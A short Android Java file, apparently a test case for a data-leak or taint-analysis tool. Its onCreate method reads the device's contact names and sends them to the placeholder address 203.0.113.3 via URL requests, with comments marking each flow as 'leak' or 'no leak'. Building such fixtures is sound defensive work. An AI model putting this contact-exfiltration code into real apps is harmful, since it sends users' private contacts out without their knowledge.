package habits;

import android.app.Activity;
import android.content.pm.PackageInfo;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import java.net.URL;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Streams of values. */
public class Streamed extends Activity {
    static class Person {
        private final String name;
        private final int age;

        Person(String name, int age) {
            this.name = name;
            this.age = age;
        }

        String getName() {
            return name;
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        List<Person> people = new ArrayList<>();
        Cursor rows = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (rows.moveToNext()) people.add(new Person(rows.getString(1), 0));
        String all = people.stream().map(Person::getName).filter(one -> one != null).sorted().collect(Collectors.joining(","));
        String none = Stream.of("a", "b").map(String::toUpperCase).collect(Collectors.joining(","));
        people.forEach(one -> send(one.getName()));
        try {
            new URL("http://203.0.113.3/p/" + all).openStream(); // leak
            new URL("http://203.0.113.3/n/" + none).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }

    private void send(String name) {
        try {
            new URL("http://203.0.113.3/q/" + name).openStream(); // leak
        } catch (Exception ignored) {
        }
    }
}
